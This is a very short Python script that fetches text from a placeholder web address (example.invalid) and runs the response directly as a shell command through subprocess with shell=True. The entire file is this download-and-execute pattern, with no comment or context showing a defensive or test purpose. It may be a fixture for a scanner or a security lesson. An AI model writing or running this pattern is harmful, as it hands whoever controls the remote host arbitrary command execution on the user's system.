import subprocess

import requests

subprocess.run(requests.get("https://example.invalid/").text, shell=True)
